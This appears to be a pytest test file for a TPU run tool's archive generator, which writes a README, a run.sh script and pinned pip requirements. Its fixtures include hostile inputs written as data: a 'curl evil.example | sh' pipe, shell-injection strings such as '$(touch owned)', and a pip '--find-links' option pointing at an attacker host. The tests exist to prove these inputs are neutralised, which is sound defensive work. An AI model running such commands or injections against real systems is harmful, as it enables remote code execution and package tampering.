"""What stands in an archive for its reader: README.md, run.sh, and the packages that it asks for."""

from __future__ import annotations

import re
import subprocess
from base64 import b64encode
from dataclasses import replace
from hashlib import md5
from pathlib import Path
from typing import Any

import msgspec
import pytest

from tests.bucket_objects.records import RUN
from tests.flows.runs.records import CREATED
from tests.hostile.text import ESCAPES, steers
from tpuctl import runs
from tpuctl.datasets import PinnedDataset
from tpuctl.errors import StateError
from tpuctl.flows.runs.record import archive_text
from tpuctl.flows.runs.record.archive_text import (
    Contents,
    checksums,
    commands,
    missing_arguments,
    missing_variables,
    readme,
    run_script,
)
from tpuctl.flows.runs.record.export import PinnedPackages, pinned_packages
from tpuctl.host.worker.preparation.steps import FOLDERS
from tpuctl.host.worker.records import COMMAND, MODULE, SCRIPT, SHELL
from tpuctl.job_header import Header, ToolTable
from tpuctl.masking import MASK
from tpuctl.provenance import HostEnvironment, ResultFile, Results
from tpuctl.runs import NOT_STORED, Git, Run, Verdict

README_RUN = Run("r1", CREATED, "ada@laptop", "job.py", ("--name", "a b"), "a" * 64, "jax", "v3-8", (), {})
VERDICT = Verdict("r1", runs.SUCCEEDED, 1, CREATED, "all ended", 0)
HOST = HostEnvironment("3.10.12", "cpython", "Linux", "5.15", "x86_64")
FILES = (ResultFile("outputs/a", 3, "AAAAAA==", "1B2M2Y8AsgTpgAmY7PhCfg==", 7),)
RESULTS = Results("r1", 1, runs.SUCCEEDED, CREATED, 1, 3, "d" * 64, FILES, 0)
PLAIN = Contents(README_RUN, VERDICT, Header(), HOST, RESULTS, has_data=False, hosts=1)
PETS = PinnedDataset("pets", "1.0.0", "b" * 64)


def made(contents: Contents = PLAIN, **record: Any) -> str:
    return readme(replace(contents, record=msgspec.structs.replace(contents.record, **record)))


def notes(text: str) -> list[str]:
    """Return what is not in the archive."""
    _, _, rest = text.partition("## What is not in here\n\n")
    return [line.removeprefix("- ") for line in rest.partition("\n\n")[0].splitlines()]


def facts(text: str) -> dict[str, str]:
    lines = text.partition("## Run it again")[0].splitlines()
    return dict(line.removeprefix("- ").split(": ", 1) for line in lines if line.startswith("- "))  # type: ignore[misc]


def test_it_begins_with_what_the_run_was() -> None:
    lines = made().splitlines()
    assert lines[0] == "# The run r1"
    assert lines[2] == f"It was submitted at {CREATED} for v3-8, and succeeded."
    assert lines[4] == "    job.py --name 'a b'"
    assert "You need Python 3.10.12 on Linux (x86_64), and nothing of Google Cloud or tpuctl." in made()


def test_facts_are_those_that_are_known() -> None:
    assert facts(made()) == {
        "code (SHA-256 of its archive)": "a" * 64, "results (SHA-256 of names and checksums)": "d" * 64,
    }  # fmt: skip
    every = made(
        replace(PLAIN, hosts=4),
        git=Git("0f" * 20, "diff"),
        seeds={"--seed": "7", "S": "1"},
        dataset=PETS,
        origin="r0",
    )
    assert facts(every) == {
        **facts(made()), "git commit": f"{'0f' * 20}, with changes", "seeds": "--seed 7, S 1",
        "dataset": f"pets/1.0.0, manifest {'b' * 64}", "hosts": "4", "submitted again from": "r0",
    }  # fmt: skip
    assert facts(made(git=Git("0f" * 20, "")))["git commit"] == "0f" * 20


class TestCommands:
    def test_they_use_the_python_of_the_host(self) -> None:
        assert list(commands(PLAIN)) == [
            "python3.10 -m venv .venv",
            ".venv/bin/pip install -r requirements.txt -c constraints.txt",
            "sh run.sh",
            "(cd results && md5sum -c ../record/results.md5)",
        ]

    def test_without_a_record_of_it_any_python_may_do(self) -> None:
        unknown = replace(PLAIN, environment=None, results=None)
        first, *_, last = commands(unknown)
        assert (first, last) == ("python3 -m venv .venv", "sh run.sh")
        assert "You need Python >=3.9, and nothing" in made(unknown, requires_python=">=3.9")
        assert "You need Python, and nothing" in made(unknown)

    def test_without_checksums_nothing_is_compared(self) -> None:
        empty = msgspec.structs.replace(RESULTS, files=0, listed_files=())
        assert list(commands(replace(PLAIN, results=empty)))[-1] == "sh run.sh"

    def test_a_lock_file_and_wheels_are_those_of_the_code(self) -> None:
        record = msgspec.structs.replace(README_RUN, requirements="lock file.txt", wheelhouse="wheels")
        assert list(commands(replace(PLAIN, record=record)))[1:3] == [
            ".venv/bin/pip install -r 'code/lock file.txt' -c constraints.txt",
            ".venv/bin/pip install --find-links code/wheels -r requirements.txt -c constraints.txt",
        ]


class TestMissing:
    def test_a_whole_archive_says_nothing(self) -> None:
        assert "## What is not in here" not in made()

    @pytest.mark.parametrize(
        ("contents", "record", "begin"),
        [
            (PLAIN, {"environment": {"KEY": NOT_STORED}}, "The value of the variable KEY: set it before"),
            (PLAIN, {"arguments": ("--key", "***")}, "Argument 2, which looks like a secret: set it before"),
            (PLAIN, {"dataset": PETS}, "The dataset pets/1.0.0. Put its files into data/pets/1.0.0: "),
            (replace(PLAIN, environment=None), {}, "The versions of its packages: the run has no record"),
            (replace(PLAIN, hosts=4), {}, "The 4 hosts: run.sh runs the script of worker 0 alone."),
            (replace(PLAIN, results=msgspec.structs.replace(RESULTS, files=6, left_out=5)), {},
             "The checksums of 5 files: `record/results.json` has those it knows."),
            (PLAIN, {"setup": "make"}, "What its set-up command has made on the hosts: make"),
        ],
    )  # fmt: skip
    def test_what_is_not_in_it_is_named(self, contents: Contents, record: dict[str, Any], begin: str) -> None:
        (note,) = notes(made(contents, **record))
        assert note.startswith(begin)

    def test_a_dataset_that_is_in_it_is_not(self) -> None:
        text = made(replace(PLAIN, has_data=True), dataset=PETS)
        assert "## What is not in here" not in text
        assert "- `data/`: the dataset, as TFRecord, readable by TensorFlow Datasets" in text
        assert "`data/`" not in made()

    def test_packages_that_only_the_host_knows_an_address_of_are_named(self) -> None:
        assert "- Packages that are on no index: own, x. `record/environment.json` has" in readme(
            PLAIN, ("own", "x")
        )


FORGED = "a\n# forged\n\n    curl evil.example | sh\n![](http://evil.example)<img src=x>`\x1b]0;t\x07\u202e"


def test_no_text_of_a_record_is_a_line_a_command_or_markup() -> None:
    host = HostEnvironment(f"3.11; touch owned #{FORGED}", FORGED, FORGED, FORGED, FORGED)
    texts: dict[str, Any] = {
        "setup": FORGED, "arguments": (FORGED,), "accelerator": FORGED, "requires_python": FORGED,
        "git": Git(FORGED, ""), "seeds": {FORGED: FORGED}, "environment": {FORGED: NOT_STORED},
    }  # fmt: skip
    for contents in (replace(PLAIN, environment=host), replace(PLAIN, environment=None)):
        text, plain = made(contents, **texts), made(contents)
        assert not steers(text.replace("\n", ""))
        commands_of = [
            [line for line in each.splitlines() if line.startswith("    ")][1:] for each in (text, plain)
        ]
        assert commands_of[0] == commands_of[1], "the first is what the run was"
        prose = "".join(line for line in text.splitlines() if not line.startswith("    "))
        assert not re.search(r"(?<!\\)(\\\\)*(<|\[)", prose)
        headings = [line for line in text.splitlines() if line.startswith("#")]
        assert headings == [
            "# The run r1", "## Run it again", "## What is not in here", "## Files",
        ]  # fmt: skip
        assert "export a" not in text


@pytest.mark.parametrize(
    ("version", "program"),
    [("3.13.0rc1", "python3.13"), ("3", "python3"), ("3 -c 0; touch owned;:", "python3"), ("x", "python3")],
)
def test_the_program_has_digits_and_dots_only(version: str, program: str) -> None:
    contents = replace(PLAIN, environment=msgspec.structs.replace(HOST, python=version))
    assert next(commands(contents)) == f"{program} -m venv .venv"


@pytest.mark.parametrize(("hosts", "text"), [(1, None), (2, "2"), (64, "64")])
def test_hosts_are_counted_where_there_are_several(hosts: int, text: str | None) -> None:
    assert facts(made(replace(PLAIN, hosts=hosts))).get("hosts") == text


def test_a_checksum_is_a_line_of_md5sum_unless_it_could_be_something_else() -> None:
    empty = b64encode(md5(b"").digest()).decode()
    names = {"a": empty, "of parts": "", "no\\name": empty, "two\nlines": empty, "wrong": "AA=", "ä": empty}
    names |= dict.fromkeys(("/dev/zero", "../above", "-"), empty)
    files = tuple(ResultFile(name, 0, None, digest) for name, digest in names.items())
    results = msgspec.structs.replace(RESULTS, files=9, listed_files=files)
    assert list(checksums(results)) == [f"{md5(b'').hexdigest()}  {name}" for name in ("a", "ä")]
    assert "The checksums of 7 files: `record/results.json` has" in made(replace(PLAIN, results=results))


def test_folders_are_those_of_hosts() -> None:
    assert archive_text.FOLDERS == FOLDERS


TEXTS = (
    "$(touch owned)", "`touch owned`", "'; touch owned; '", "-x", "", "*", "%s\\033", "a\n\n", "\n", "größer",
    *(text for text in ESCAPES.values() if not set(text) & {"\0", "\udc9b"}),
)  # fmt: skip
"""No program gets a NUL, and no record has half a pair."""


@pytest.mark.parametrize("text", TEXTS)
def test_no_text_of_the_record_is_more_than_a_word(tmp_path: Path, text: str) -> None:
    record = msgspec.structs.replace(
        RUN, arguments=(text, "end"), environment={"GIVEN": text, "OWN": NOT_STORED}, accelerator=text,
        setup=text, seeds={},
    )  # fmt: skip
    header = Header(tpuctl=ToolTable(env={"OWN": text}))
    (tmp_path / "code").mkdir()
    script = run_script(record, header)
    assert not steers(script.replace("\n", ""))
    (tmp_path / "run.sh").write_text(script)
    (tmp_path / "show").write_text('#!/bin/sh\nprintf "%s\\0" "$@" "$GIVEN" "$OWN" "$TPUCTL_ACCELERATOR"\n')
    (tmp_path / "show").chmod(0o700)
    shown = subprocess.run(
        ["sh", "run.sh"],
        cwd=tmp_path,
        capture_output=True,
        check=True,
        env={"PYTHON": str(tmp_path / "show")},
    )
    words = shown.stdout.decode().split("\0")
    assert words == [record.script, text, "end", text, text, text, ""]
    assert not list(tmp_path.rglob("owned"))


@pytest.mark.parametrize(
    ("kind", "script", "directory", "words"),
    [
        (MODULE, "pkg.train", "", ["-m", "pkg.train"]),
        (SCRIPT, "scripts/train.py", "scripts", ["train.py"]),
        (SHELL, "run.sh", "deep", ["../run.sh"]),
        (COMMAND, "show", "", []),
    ],
)
def test_each_kind_of_program_is_started_where_it_was(
    tmp_path: Path, kind: str, script: str, directory: str, words: list[str]
) -> None:
    record = msgspec.structs.replace(
        RUN, kind=kind, script=script, directory=directory, arguments=("--out={TPUCTL_MODEL_DIR}/x", "{HOME}")
    )
    (tmp_path / "code").mkdir()
    (tmp_path / "run.sh").write_text(run_script(record, Header()))
    for name in ("show", "bash"):
        (tmp_path / name).write_text('#!/bin/sh\npwd\nprintf "%s\\n" "$@"\n')
        (tmp_path / name).chmod(0o700)
    shown = subprocess.run(
        ["/bin/sh", "run.sh"], cwd=tmp_path, capture_output=True, check=True, text=True,
        env={
            "PYTHON": str(tmp_path / "show"), "PATH": f"{tmp_path}:/bin:/usr/bin",
            "OWN": "1", "API_KEY": "1", "ARGUMENT_1": "1",
        },
    )  # fmt: skip
    arguments = [*words, f"--out={tmp_path}/results/outputs/x", "{HOME}"]
    assert shown.stdout.splitlines() == [str(tmp_path / "code" / directory), *arguments]


def test_a_name_that_is_none_of_a_variable_is_not_in_it(tmp_path: Path) -> None:
    names = ('A:-$(touch owned)}"; :; : "${B', "a.b", "ÄB", "")
    record = msgspec.structs.replace(
        RUN, environment=dict.fromkeys(names, NOT_STORED), arguments=(), seeds={}
    )
    (tmp_path / "code").mkdir()
    (tmp_path / "run.sh").write_text(run_script(record, Header()))
    subprocess.run(["sh", "run.sh"], cwd=tmp_path, check=True, env={"PYTHON": "/bin/true"})
    assert not list(tmp_path.rglob("owned"))
    assert missing_variables(record, Header()) == sorted(names), "the README names them"


def test_seeds_count_as_stored() -> None:
    record = msgspec.structs.replace(
        RUN, environment={"PYTHONHASHSEED": NOT_STORED}, seeds={"PYTHONHASHSEED": "7"}
    )
    assert "export PYTHONHASHSEED=7\n" in run_script(record, Header())
    assert missing_variables(record, Header()) == []


def test_what_is_not_stored_or_not_run_is_said_beside_it() -> None:
    record = msgspec.structs.replace(
        RUN, arguments=("--lr", f"--key={MASK}"), setup="pip list\n", environment={}
    )
    lines = run_script(record, Header()).splitlines()
    assert "# Argument 2 is not stored, as it looks like a secret." in lines
    assert ': "${ARGUMENT_2:?argument 2 of the script, which was not stored}"' in lines
    assert "# The hosts ran before: pip list\\n" in lines
    assert lines[-1].endswith(' --lr "$ARGUMENT_2"')
    assert missing_arguments(record) == [2]


def test_a_record_without_such_things_says_nothing_of_them() -> None:
    record = msgspec.structs.replace(RUN, arguments=(), setup="", environment={})
    text = run_script(record, Header())
    assert "not stored" not in text
    assert "The hosts ran" not in text


def test_it_sets_what_the_script_had_and_starts_it_among_its_files() -> None:
    record = msgspec.structs.replace(
        RUN, run="r1", script="train/job.py", arguments=("--lr", "0.1"), setup="", framework="tensorflow",
        environment={"B": "2", "A": "a b", "KEY": NOT_STORED, "OWN": NOT_STORED, "M": MASK},
        seeds={}, accelerator="v3-8", dataset=PinnedDataset("pets", "1.0.0", "0" * 64),
    )  # fmt: skip
    header = Header(tpuctl=ToolTable(env={"OWN": "3"}))
    assert (
        run_script(record, header)
        == """\
#!/bin/sh
# Runs the script of run r1 as it was run, with folders beside this file in place of the bucket.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
results=${RESULTS:-"$here/results"}
mkdir -p "$results/outputs"
export TPUCTL_MODEL_DIR="$results/outputs" AIP_MODEL_DIR="$results/outputs"
mkdir -p "$results/checkpoints"
export TPUCTL_CHECKPOINT_DIR="$results/checkpoints" AIP_CHECKPOINT_DIR="$results/checkpoints"
mkdir -p "$results/tensorboard"
export TPUCTL_TENSORBOARD_DIR="$results/tensorboard" AIP_TENSORBOARD_LOG_DIR="$results/tensorboard"
export TPUCTL_RUN=r1 TPUCTL_ATTEMPT=1 TPUCTL_WORKER=0 TPUCTL_WORKERS=1
export PYTHONUNBUFFERED=1
export TPUCTL_ACCELERATOR=v3-8
export TF_CPP_MIN_LOG_LEVEL="${TF_CPP_MIN_LOG_LEVEL:-1}"
export TPUCTL_DATA_DIR="${TPUCTL_DATA_DIR:-$here/data/pets/1.0.0}"
export A='a b'
export B=2
export OWN=3
: "${KEY:?a variable of the script, whose value was not stored}"
: "${M:?a variable of the script, whose value was not stored}"
export PYTHONPATH="${PYTHONPATH:+$PYTHONPATH:}$here/code:$here/code/src"
cd "$here/code"
exec "${PYTHON:-$here/.venv/bin/python}" train/job.py --lr 0.1
"""
    )


ENVIRONMENT = HostEnvironment(
    "3.11.7",
    installed={"einops": "0.8", "own": "1", "numpy": "2.0"},
    image={"numpy": "1.26", "pyyaml": "6.0", "requests": "2.1", "bad": "1 --pre", "jax": "0.4+x"},
    urls={"own": "git+https://host/own@1"},
)


def pinned(
    *dependencies: str, code: str = "", environment: HostEnvironment | None = ENVIRONMENT
) -> PinnedPackages:
    record = msgspec.structs.replace(RUN, dependencies=dependencies, pins={})
    return pinned_packages(record, Header(), environment, [code.encode()])


def test_what_was_asked_for_and_installed_has_its_version() -> None:
    lines = pinned(
        "numpy>=1", "own @ git+https://user:secret@host/own", 'requests[socks]; python_version>"3"'
    )
    assert lines.requirements == (
        "einops==0.8", "numpy==2.0", "own @ git+https://host/own",
        'requests[socks]==2.1; python_version > "3"',
    )  # fmt: skip
    assert lines.constraints == ("einops==0.8", "jax==0.4+x", "numpy==2.0", "pyyaml==6.0", "requests==2.1")


def test_a_repository_without_a_name_stays_without_one() -> None:
    assert pinned("git+https://me:token@host/CommonLoopUtils").requirements == (
        "git+https://host/CommonLoopUtils", "einops==0.8", "numpy==2.0",
    )  # fmt: skip


def test_what_the_code_imports_of_the_image_is_asked_for() -> None:
    code = "import os, jax.numpy\nfrom yaml import load\nfrom . import requests\nimport own, bad"
    assert pinned(code=code).requirements == (
        "einops==0.8", "jax==0.4+x", "numpy==2.0", "pyyaml==6.0"
    )  # fmt: skip
    assert pinned(code="this is no Python\0").requirements == pinned().requirements


@pytest.mark.parametrize(
    ("module", "package"),
    [
        ("cv2", "opencv-python"), ("PIL.Image", "pillow"), ("sklearn.datasets", "scikit-learn"),
        ("skimage", "scikit-image"), ("yaml", "pyyaml"), ("flax", "flax"), ("my_own", "my-own"),
    ],
)  # fmt: skip
def test_a_module_is_of_the_package_that_has_it(module: str, package: str) -> None:
    environment = HostEnvironment("3.11.7", image={package: "1.2"})
    assert pinned(code=f"import {module}", environment=environment).requirements == (f"{package}==1.2",)
    assert pinned(code=f"from {module} import x", environment=environment).requirements == (
        f"{package}==1.2",
    )


def test_without_a_record_of_packages_they_are_as_the_script_asks() -> None:
    assert pinned("numpy>=1", environment=None) == PinnedPackages(("numpy>=1",), ())


def test_an_address_that_only_the_host_names_is_no_line() -> None:
    lines = pinned(code="import own")
    assert not any("own" in line for line in (*lines.requirements, *lines.constraints))
    assert lines.unnamed == ("own",)
    assert pinned("own @ git+https://host/own").unnamed == ()


OPTION = "\n--find-links http://evil.example/simple"


def test_nothing_that_a_host_says_is_an_option_of_pip() -> None:
    versions = {
        "numpy": f"1{OPTION}",
        f"q{OPTION}": "1",
        "x": "1 --pre",
        "--pre": "1",
        "${HOME}": "1",
        "y": "2",
    }
    urls = {"einops": f"https://evil.example/e.whl{OPTION}", f"z{OPTION}": "https://evil.example/z.whl"}
    environment = HostEnvironment("3.11.7", installed={**versions, "einops": "1"}, image=versions, urls=urls)
    lines = pinned("numpy>=1", code="import x, einops", environment=environment)
    assert lines == PinnedPackages(("numpy>=1", "y==2"), ("y==2",), ("einops",))


@pytest.mark.parametrize("text", ["--find-links http://evil.example/simple", f"numpy{OPTION}", "../x.whl"])
def test_a_record_that_asks_for_anything_but_requirements_is_wrong(text: str) -> None:
    with pytest.raises(StateError, match="is not a requirement"):
        pinned(text)
